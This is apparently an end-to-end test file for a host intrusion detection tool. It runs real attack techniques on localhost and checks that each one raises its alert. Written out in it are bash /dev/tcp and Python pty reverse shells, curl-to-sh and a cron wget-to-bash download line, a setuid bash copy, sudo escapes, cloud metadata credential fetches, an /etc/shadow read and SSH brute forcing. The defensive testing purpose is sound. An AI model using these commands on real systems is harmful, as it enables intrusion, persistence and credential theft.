/**
 * Detection end to end, as root with the real driver: `hades start` runs the server (with the
 * default rule pack) and a local agent; attacks done for real on this host each produce their
 * alert through `hades alerts list --json`:
 * - a reverse shell to a local listener (bash with /dev/tcp), also by bash linked under another
 *   name and by a copy of bash in a temporary folder;
 * - a program named auditd killed with SIGKILL;
 * - curl piped to sh from a local HTTP server;
 * - a file dropped in /tmp and executed;
 * - a cron persistence write (/etc/cron.d), and one whose line downloads and runs code;
 * - tar's checkpoint action running a program, sudo asked for user id -1, apt-get given a hook
 *   on its command line, a user namespace mapped to root by nobody;
 * - a systemd unit made as a symbolic link to a file in /tmp;
 * - /etc/shadow read by a script (python3), not a login or account tool;
 * - SSH password guessing against a real sshd, then a login from the same address (the agent's
 *   log collector reading journald, run on its own for the test).
 * Before them, a benign workload (compiling C, git clone, npm ci, apt-get operations) must raise
 * no high or critical alert.
 */
import assert from 'node:assert/strict';
import { execFile, spawn, spawnSync } from 'node:child_process';
import { chmodSync, copyFileSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer as createHttpServer } from 'node:http';
import { createServer as createTcpServer, type AddressInfo, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { promisify } from 'node:util';
import { waitFor } from '../helpers/agent.js';
import { logDaemonsUnavailable, startJournald, startSshd, stopAll, stopDaemon, type Journald } from '../helpers/log-daemons.js';
import { projectRoot } from '../helpers/generated-docs.js';

const root = process.getuid?.() === 0;
const dir = mkdtempSync(path.join(tmpdir(), 'hades-detect-'));
/** Runs a command without blocking the event loop: the listeners of the test answer meanwhile. */
const run = promisify(execFile);
const hades = (...args: string[]) => spawnSync(process.execPath, [`${projectRoot}bin/hades.js`, ...args], { cwd: projectRoot, encoding: 'utf8', timeout: 30_000 });

interface AlertLine {
  id: string;
  '@timestamp': string;
  rule: { id: string; title: string; severity: string };
  host: { name: string };
  message: string;
  process?: Record<string, unknown>;
}

describe('detection end to end (root, real driver, default rule pack)', { skip: root ? false : 'needs root' }, () => {
  let child: ReturnType<typeof spawn> | undefined;
  let exited: Promise<number | null> | undefined;
  let stderr = '';
  let serverConfig = '';
  const cronFile = `/etc/cron.d/hades-e2e-${process.pid}`;
  /** journald, started before the agent so that its log collector reads the journal. */
  const logsUnavailable = logDaemonsUnavailable();
  let journald: Journald | undefined;

  /** Alerts since `since` (ISO) as NDJSON through the CLI. */
  const alerts = (since: string): AlertLine[] => {
    const result = hades('alerts', 'list', '--json', '--since', since, '--limit', '10000', '--config', serverConfig);
    assert.equal(result.status, 0, result.stderr);
    return result.stdout
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l) as AlertLine);
  };
  /** The full alert (with its events) through the API, via `hades alerts list` then the id. */
  const waitForAlert = (what: string, since: string, test: (alert: AlertLine) => boolean) =>
    waitFor(what, () => alerts(since).find(test), 30_000, 500);
  const mentions = (alert: AlertLine, text: string) => JSON.stringify(alert).includes(text);

  before(async () => {
    if (logsUnavailable === false) journald = await startJournald();
    child = spawn(process.execPath, [`${projectRoot}bin/hades.js`, 'start', '--data', dir, '--api', '127.0.0.1:0', '--gateway', '127.0.0.1:0'], { cwd: projectRoot, stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    child.stdout!.setEncoding('utf8').on('data', (d: string) => (stdout += d));
    child.stderr!.setEncoding('utf8').on('data', (d: string) => (stderr += d));
    exited = new Promise((resolve) => child!.on('close', (code) => resolve(code)));
    const api = await waitFor('the start banner', () => /API:\s+(https:\/\/\S+)/.exec(stdout)?.[1], 60_000, 100);
    serverConfig = path.join(dir, 'server.yaml');
    writeFileSync(serverConfig, `data_dir: ${path.join(dir, 'server')}\nlisten: { api: "${api.replace('https://', '')}" }\n`);
    await waitFor(
      'the local agent online',
      () => {
        const listed = hades('agents', 'list', '--json', '--config', serverConfig);
        return listed.status === 0 && listed.stdout.includes('"online":true');
      },
      60_000,
      250,
    );
    // Online is the stream to the server; the kernel driver attaches its hooks a moment later.
    // What runs before that is not seen, so each test starts once an exec is seen and stored.
    let probe = 0;
    await waitFor(
      'the local agent watching execs',
      () => {
        const marker = `hades-e2e-ready-${process.pid}-${++probe}`;
        spawnSync('/bin/true', [marker]);
        const found = hades('search', '--json', '--since', '10m', '--action', 'exec', 'process.executable=/usr/bin/true', '--limit', '1000', '--config', serverConfig);
        return found.status === 0 && found.stdout.includes(`hades-e2e-ready-${process.pid}-`);
      },
      60_000,
      500,
    );
  });

  after(async () => {
    rmSync(cronFile, { force: true });
    if (child) {
      child.kill('SIGINT');
      assert.equal(await exited, 0, stderr);
    }
    await journald?.stop();
    stopAll();
    rmSync(dir, { recursive: true, force: true });
  });

  it('a benign workload (compiling C, git clone, npm ci, apt-get) raises no high or critical alert', async () => {
    const since = new Date().toISOString();
    const work = path.join(dir, 'benign');
    mkdirSync(work, { recursive: true });
    const run = (command: string, args: string[], cwd = work) => {
      const result = spawnSync(command, args, { cwd, encoding: 'utf8', timeout: 240_000, env: { ...process.env, npm_config_audit: 'false', npm_config_fund: 'false', npm_config_update_notifier: 'false' } });
      assert.equal(result.status, 0, `${command} ${args.join(' ')}: ${result.stderr}`);
    };
    writeFileSync(path.join(work, 'hello.c'), '#include <stdio.h>\nint main(void) { puts("hello"); return 0; }\n');
    run('cc', ['-O2', '-o', 'hello', 'hello.c']);
    run(path.join(work, 'hello'), []);
    writeFileSync(path.join(work, 'Makefile'), 'all: hello2\nhello2: hello.c\n\tcc -o hello2 hello.c\n');
    run('make', []);
    run('git', ['clone', '--quiet', '--depth', '1', `file://${projectRoot}`, path.join(work, 'clone')]);
    const pkg = path.join(work, 'pkg');
    mkdirSync(pkg);
    // A package with one small dependency, installed from the npm registry with its lockfile.
    writeFileSync(path.join(pkg, 'package.json'), JSON.stringify({ name: 'benign', version: '1.0.0', private: true, dependencies: { 'fastest-levenshtein': '1.0.16' } }));
    run('npm', ['install', '--package-lock-only', '--ignore-scripts', '--no-audit', '--no-fund'], pkg);
    run('npm', ['ci', '--no-audit', '--no-fund'], pkg);
    run('apt-get', ['check']);
    run('apt-get', ['-s', 'install', '--reinstall', 'coreutils']);
    run('dpkg', ['-l', 'coreutils']);
    // A last command with a marker: once its exec is in the store, so is the workload before it,
    // and its matching has run (an alert is raised right after its batch is stored).
    const marker = `benign-done-${process.pid}`;
    run('/bin/true', [marker]);
    await waitFor(
      'the workload in the store',
      () => {
        const found = hades('search', '--json', '--since', '10m', '--action', 'exec', `process.args=${marker}`, '--config', serverConfig);
        return found.status === 0 && found.stdout.includes(marker);
      },
      60_000,
      500,
    );
    await new Promise((resolve) => setTimeout(resolve, 1000));
    const loud = alerts(since).filter((a) => a.rule.severity === 'high' || a.rule.severity === 'critical');
    // The workload's: processes under this test's process (a list of 8 ancestors may stop short of
    // it: counted too). Other programs of the machine (a CI host's own jobs) are named, not counted.
    const ancestorsOf = (a: AlertLine) => (a.process?.['ancestors'] as { pid?: number }[] | undefined) ?? [];
    const ours = loud.filter((a) => ancestorsOf(a).length >= 8 || ancestorsOf(a).some((x) => x.pid === process.pid));
    const others = loud.filter((a) => !ours.includes(a));
    if (others.length > 0) console.log(`# high or critical alerts of other programs during the workload: ${others.map((a) => `${a.rule.id}: ${a.message}`).join('; ')}`);
    assert.deepEqual(
      ours.map((a) => `${a.rule.id}: ${a.message}`),
      [],
      'no high or critical alert from a benign workload',
    );
  });

  it('a reverse shell to a local listener raises an alert', async () => {
    const since = new Date().toISOString();
    const sockets = new Set<Socket>();
    const listener = createTcpServer((socket) => {
      sockets.add(socket);
      socket.on('error', () => undefined);
      socket.end('exit\n');
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    const port = (listener.address() as AddressInfo).port;
    try {
      await run('/bin/bash', ['-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`], { timeout: 10_000 }).catch(() => undefined);
      // The shell itself raises a high or critical alert (what runs under it may add low ones).
      const alert = await waitForAlert('a high or critical reverse shell alert', since, (a) => mentions(a, `/dev/tcp/127.0.0.1/${port}`) && ['high', 'critical'].includes(a.rule.severity));
      assert.match(alert.rule.id, /reverse_shell/);
    } finally {
      for (const socket of sockets) socket.destroy();
      await new Promise((resolve) => listener.close(resolve));
    }
  });

  /** Runs `launch` (a shell command given the port) against a listener that tells the shell to exit. */
  const withShellListener = async (launch: (port: number) => string) => {
    const sockets = new Set<Socket>();
    const listener = createTcpServer((socket) => {
      sockets.add(socket);
      socket.on('error', () => undefined);
      socket.end('exit\n');
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    const port = (listener.address() as AddressInfo).port;
    try {
      await run('/bin/bash', ['-c', launch(port)], { timeout: 10_000 }).catch(() => undefined);
    } finally {
      for (const socket of sockets) socket.destroy();
      await new Promise((resolve) => listener.close(resolve));
    }
  };

  /** `program` under another `name` in a folder of its own: a symbolic link to it, or a copy. */
  const renamed = (program: string, name: string, how: 'link' | 'copy'): string => {
    const file = path.join(mkdtempSync(path.join(dir, `${how}-`)), name);
    if (how === 'link') symlinkSync(program, file);
    else {
      copyFileSync(program, file);
      chmodSync(file, 0o755);
    }
    return file;
  };

  it('bash linked under another name, reading a socket, raises the reverse shell alert', async () => {
    const since = new Date().toISOString();
    const link = renamed('/bin/bash', 'kworker', 'link');
    await withShellListener((port) => `${link} -i <>/dev/tcp/127.0.0.1/${port} >&0 2>&0`);
    // The shell itself (its comm kworker, its executable bash), not only its launcher's command line.
    const alert = await waitForAlert('reverse_shell_socket_stdio for the linked bash', since, (a) => a.rule.id === 'reverse_shell_socket_stdio' && mentions(a, link));
    assert.equal(alert.rule.severity, 'critical');
  });

  it('bash copied to a temporary folder under another name, reading a socket, raises an alert', async () => {
    const since = new Date().toISOString();
    const copy = renamed('/bin/bash', 'kworker', 'copy');
    await withShellListener((port) => `${copy} -i <>/dev/tcp/127.0.0.1/${port} >&0 2>&0`);
    const alert = await waitForAlert('socket_stdio_program_from_writable_folder for the copy', since, (a) => a.rule.id === 'socket_stdio_program_from_writable_folder' && mentions(a, copy));
    assert.equal(alert.rule.severity, 'high');
  });

  it('an interpreter reading its program from a socket (a reverse shell in Perl) raises a critical alert', async () => {
    const since = new Date().toISOString();
    let port = 0;
    await withShellListener((p) => {
      port = p;
      return `exec /usr/bin/perl <>/dev/tcp/127.0.0.1/${p} >&0 2>&0`;
    });
    const alert = await waitForAlert('interpreter_reads_socket for perl', since, (a) => a.rule.id === 'interpreter_reads_socket' && mentions(a, `127.0.0.1:${port}`));
    assert.equal(alert.rule.severity, 'critical');
  });

  it('a command run on a socket by a program that is no shell (an implant\'s system()) raises an alert', async () => {
    const since = new Date().toISOString();
    const marker = `implant-${process.pid}`;
    await withShellListener(
      (port) =>
        `/usr/bin/perl -e 'use IO::Socket::INET; my $s = IO::Socket::INET->new("127.0.0.1:${port}") or die; open(STDIN, "<&", $s); open(STDOUT, ">&", $s); system("/usr/bin/env", "true", "${marker}")'`,
    );
    const alert = await waitForAlert('socket_stdio_command_unknown_parent for env', since, (a) => a.rule.id === 'socket_stdio_command_unknown_parent' && mentions(a, marker));
    assert.equal(alert.rule.severity, 'medium');
    assert.match(alert.message, /by \/usr\/bin\/perl/);
  });

  it('a Python script that connects out and hands a pty shell to the connection raises an alert, though no command line says so', async () => {
    const since = new Date().toISOString();
    const script = path.join(mkdtempSync(path.join(dir, 'pty-')), 'update.py');
    writeFileSync(
      script,
      ['import os, pty, socket, sys', 's = socket.create_connection(("127.0.0.1", int(sys.argv[1])))', 'for fd in (0, 1, 2):', '    os.dup2(s.fileno(), fd)', 'pty.spawn("/bin/sh")', ''].join('\n'),
    );
    await withShellListener((port) => `/usr/bin/python3 ${script} ${port}`);
    const alert = await waitForAlert('interpreter_connection_then_interactive_shell', since, (a) => a.rule.id === 'interpreter_connection_then_interactive_shell' && mentions(a, '/bin/sh'));
    assert.equal(alert.rule.severity, 'medium');
    assert.match(alert.message, /started by python3[.0-9]* \(pid \d+\) after it connected out/);
  });

  it('an SSH reverse tunnel and a tunnelling tool (chisel, renamed) raise their alerts', async () => {
    const since = new Date().toISOString();
    // Nothing listens on port 1: ssh fails at once, after its exec was seen.
    await run('/usr/bin/ssh', ['-o', 'BatchMode=yes', '-o', 'ConnectTimeout=2', '-p', '1', '-fNR', '2222:localhost:22', 'tunnel@127.0.0.1'], { timeout: 10_000 }).catch(() => undefined);
    const ssh = await waitForAlert('ssh_reverse_or_dynamic_tunnel', since, (a) => a.rule.id === 'ssh_reverse_or_dynamic_tunnel' && mentions(a, '2222:localhost:22'));
    assert.equal(ssh.rule.severity, 'medium');
    // chisel under another name: its reverse-forward arguments give it away.
    const tool = renamed('/bin/true', 'kupdate', 'copy');
    await run(tool, ['client', '127.0.0.1:1', 'R:socks'], { timeout: 10_000 }).catch(() => undefined);
    const chisel = await waitForAlert('tunneling_tool', since, (a) => a.rule.id === 'tunneling_tool' && mentions(a, tool));
    assert.equal(chisel.rule.severity, 'high');
  });

  it('a setuid copy of bash run by an unprivileged user raises a critical alert', async () => {
    const since = new Date().toISOString();
    // A folder the user nobody can reach, with bash copied under another name and made setuid root.
    const suid = mkdtempSync(path.join(tmpdir(), 'hades-suid-'));
    try {
      chmodSync(suid, 0o755);
      const shell = path.join(suid, '.libcache');
      copyFileSync('/bin/bash', shell);
      chmodSync(shell, 0o4755);
      const result = await run('/usr/bin/setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', shell, '-p', '-c', 'id -u'], { encoding: 'utf8', timeout: 10_000 });
      assert.equal(result.stdout.trim(), '0', 'the copy runs as root');
      const alert = await waitForAlert('setuid_shell_or_interpreter_run', since, (a) => a.rule.id === 'setuid_shell_or_interpreter_run' && mentions(a, shell));
      assert.equal(alert.rule.severity, 'critical');
    } finally {
      rmSync(suid, { recursive: true, force: true });
    }
  });

  it('a tar checkpoint shell, sudo -u#-1, an APT hook on the command line, a user namespace by nobody, a cron line that downloads and programs run with sudo that become a shell each raise their alert', async () => {
    const since = new Date().toISOString();
    const tolerant = (file: string, args: string[]) => run(file, args, { timeout: 10_000 }).catch(() => undefined);
    await tolerant('/usr/bin/tar', ['-cf', '/dev/null', '--checkpoint=1', '--checkpoint-action=exec=/bin/true', '/dev/null']);
    // A patched sudo refuses the user id; the attempt is what is reported.
    await tolerant('/usr/bin/sudo', ['-n', '-u#-1', '/bin/true']);
    await tolerant('/usr/bin/apt-get', ['-o', 'APT::Update::Pre-Invoke::=/bin/true', '--version']);
    // Whether or not this kernel lets an unprivileged user make a user namespace.
    await tolerant('/usr/bin/setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', '/usr/bin/unshare', '-Ur', '/bin/true']);
    // GTFOBins' sudo entries for perl and env: the program sudo ran executes the shell in its place.
    await tolerant('/usr/bin/sudo', ['-n', '/usr/bin/perl', '-e', `exec "/bin/sh", "-s", "perl-${process.pid}"`]);
    await tolerant('/usr/bin/sudo', ['-n', '/usr/bin/env', '/bin/sh', '-s', `env-${process.pid}`]);
    const line = `*/5 * * * * root wget -q -O- http://203.0.113.9/s-${process.pid} | bash`;
    try {
      await run('/bin/sh', ['-c', `echo '${line}' > ${cronFile}`], { timeout: 10_000 });
      const expected: [rule: string, severity: string, text: string][] = [
        ['shell_spawned_through_program_option', 'high', '--checkpoint-action=exec=/bin/true'],
        ['sudo_exploit_attempt', 'high', '-u#-1'],
        ['package_manager_hook_on_command_line', 'high', 'APT::Update::Pre-Invoke::=/bin/true'],
        ['user_namespace_root_by_unprivileged_user', 'medium', 'unshare -Ur'],
        ['cron_job_runs_download_or_shell', 'high', `s-${process.pid}`],
        ['shell_escaped_from_program_under_sudo', 'high', `perl-${process.pid}`],
        ['shell_escaped_from_program_under_sudo', 'high', `env-${process.pid}`],
      ];
      for (const [rule, severity, text] of expected) {
        const alert = await waitForAlert(rule, since, (a) => a.rule.id === rule && mentions(a, text));
        assert.equal(alert.rule.severity, severity, rule);
      }
    } finally {
      rmSync(cronFile, { force: true });
    }
  });

  it('the metadata service by a decimal address, a fork bomb on a command line and a ProxyCommand written into an SSH client configuration each raise their alert', async () => {
    const since = new Date().toISOString();
    const home = mkdtempSync(path.join(tmpdir(), 'hades-e2e-home-'));
    try {
      mkdirSync(path.join(home, '.ssh'));
      // 169.254.169.254 as one number; nothing answers here, the attempt is what is reported.
      await run('/usr/bin/curl', ['-s', '-m', '1', `http://2852039166/latest/meta-data/iam/security-credentials/e2e-${process.pid}`], { timeout: 10_000 }).catch(() => undefined);
      // Echoed, never run.
      await run('/bin/sh', ['-c', `echo ':(){ :|:& };:' > /dev/null # e2e-${process.pid}`], { timeout: 10_000 });
      await run('/bin/sh', ['-c', `printf 'Host e2e\\n  ProxyCommand /bin/true %%h\\n' >> ${home}/.ssh/config`], { timeout: 10_000 });
      const expected: [rule: string, text: string][] = [
        ['cloud_credentials_fetched_from_metadata_service', `e2e-${process.pid}`],
        ['fork_bomb_on_command_line', `e2e-${process.pid}`],
        ['ssh_client_command_hook_written_by_command', home],
      ];
      for (const [rule, text] of expected) {
        const alert = await waitForAlert(rule, since, (a) => a.rule.id === rule && mentions(a, text));
        assert.equal(alert.rule.severity, 'medium', rule);
      }
    } finally {
      rmSync(home, { recursive: true, force: true });
    }
  });

  it('a process named auditd killed by SIGKILL raises an alert', async () => {
    const since = new Date().toISOString();
    // A program called auditd (a copy of sleep): the exit event carries its comm and exit code.
    const auditd = renamed('/bin/sleep', 'auditd', 'copy');
    const daemon = spawn(auditd, ['60'], { stdio: 'ignore' });
    const gone = new Promise((resolve) => daemon.on('close', resolve));
    await new Promise((resolve) => setTimeout(resolve, 300));
    daemon.kill('SIGKILL');
    await gone;
    const alert = await waitForAlert('security_daemon_killed for the killed auditd', since, (a) => a.rule.id === 'security_daemon_killed' && mentions(a, auditd));
    assert.equal(alert.rule.severity, 'high');
  });

  it('curl piped to sh from a local HTTP server raises an alert', async () => {
    const since = new Date().toISOString();
    const marker = `hades-e2e-payload-${process.pid}`;
    const http = createHttpServer((_request, response) => response.end(`echo ${marker}\n`));
    await new Promise<void>((resolve) => http.listen(0, '127.0.0.1', resolve));
    const port = (http.address() as AddressInfo).port;
    try {
      const result = await run('/bin/sh', ['-c', `curl -fsS http://127.0.0.1:${port}/install.sh | sh`], { encoding: 'utf8', timeout: 10_000 });
      assert.match(result.stdout, new RegExp(marker));
      await waitForAlert('a download-and-execute alert of medium severity or more', since, (a) => mentions(a, `127.0.0.1:${port}/install.sh`) && ['medium', 'high', 'critical'].includes(a.rule.severity));
    } finally {
      http.closeAllConnections();
      await new Promise((resolve) => http.close(resolve));
    }
  });

  it('a file dropped in /tmp and executed raises an alert', async () => {
    const since = new Date().toISOString();
    const dropped = `/tmp/hades-e2e-drop-${process.pid}`;
    try {
      writeFileSync(dropped, '#!/bin/sh\nexit 0\n');
      chmodSync(dropped, 0o755);
      spawnSync(dropped, [], { timeout: 10_000 });
      await waitForAlert('an alert for the executed /tmp file', since, (a) => mentions(a, dropped));
    } finally {
      rmSync(dropped, { force: true });
    }
  });

  it('a script downloaded into /tmp and run by a relative path raises the written-then-run alert', async () => {
    const since = new Date().toISOString();
    const name = `hades-e2e-s-${process.pid}.sh`;
    const http = createHttpServer((_request, response) => response.end('exit 0\n'));
    await new Promise<void>((resolve) => http.listen(0, '127.0.0.1', resolve));
    const port = (http.address() as AddressInfo).port;
    try {
      await run('/bin/sh', ['-c', `cd /tmp && curl -fsS -o ${name} http://127.0.0.1:${port}/s.sh && sh ${name}`], { encoding: 'utf8', timeout: 10_000 });
      await waitForAlert('tmp_script_written_then_run for the script', since, (a) => a.rule.id === 'tmp_script_written_then_run' && mentions(a, `/tmp/${name}`));
    } finally {
      rmSync(`/tmp/${name}`, { force: true });
      http.closeAllConnections();
      await new Promise((resolve) => http.close(resolve));
    }
  });

  it('a cron persistence write raises an alert', async () => {
    const since = new Date().toISOString();
    writeFileSync(cronFile, '* * * * * root /bin/true\n');
    try {
      const alert = await waitForAlert('a cron persistence alert', since, (a) => mentions(a, cronFile));
      assert.ok(alert.rule.id.length > 0);
    } finally {
      rmSync(cronFile, { force: true });
    }
  });

  it('a systemd unit linked from /tmp raises a persistence alert', async () => {
    const since = new Date().toISOString();
    const payload = path.join(mkdtempSync('/tmp/hades-e2e-unit-'), 'dbus-helper.service');
    const unit = `/etc/systemd/system/hades-e2e-${process.pid}.service`;
    writeFileSync(payload, '[Service]\nExecStart=/bin/true\n');
    mkdirSync(path.dirname(unit), { recursive: true });
    try {
      await run('ln', ['-s', payload, unit]);
      const alert = await waitForAlert('a link persistence alert', since, (a) => a.rule.id === 'persistence_link_to_temporary_file' && mentions(a, unit));
      assert.equal(alert.rule.severity, 'high');
      assert.ok(mentions(alert, payload));
    } finally {
      rmSync(unit, { force: true });
      rmSync(path.dirname(payload), { recursive: true, force: true });
    }
  });

  it('/etc/shadow read by a script raises an alert naming the reader', async () => {
    const since = new Date().toISOString();
    const marker = `hades-e2e-shadow-${process.pid}`;
    await run('python3', ['-c', 'import sys; open("/etc/shadow").read()', marker]);
    const alert = await waitForAlert('a shadow read alert', since, (a) => a.rule.id === 'shadow_read_by_unexpected_program' && mentions(a, marker));
    assert.equal(alert.rule.severity, 'high');
    assert.ok(mentions(alert, '/etc/shadow'));
  });

  it('SSH password guessing then a login from the same address raises an alert', { skip: logsUnavailable }, async () => {
    const since = new Date().toISOString();
    const sshDir = path.join(dir, 'sshd');
    mkdirSync(sshDir);
    const sshd = await startSshd(sshDir);
    try {
      sshd.wrongPassword('root', 5);
      sshd.wrongPassword('root', 5);
      sshd.loginWithKey();
      const alert = await waitForAlert('the guessed-password alert', since, (a) => a.rule.id === 'ssh_brute_force_then_success');
      assert.equal(alert.rule.severity, 'high');
      assert.match(alert.message, /SSH login as root from 127\.0\.0\.1 succeeded after password guessing/);
      assert.ok(alerts(since).some((a) => a.rule.id === 'ssh_brute_force'), 'the guessing itself');
    } finally {
      await stopDaemon(sshd.child);
    }
  });
});
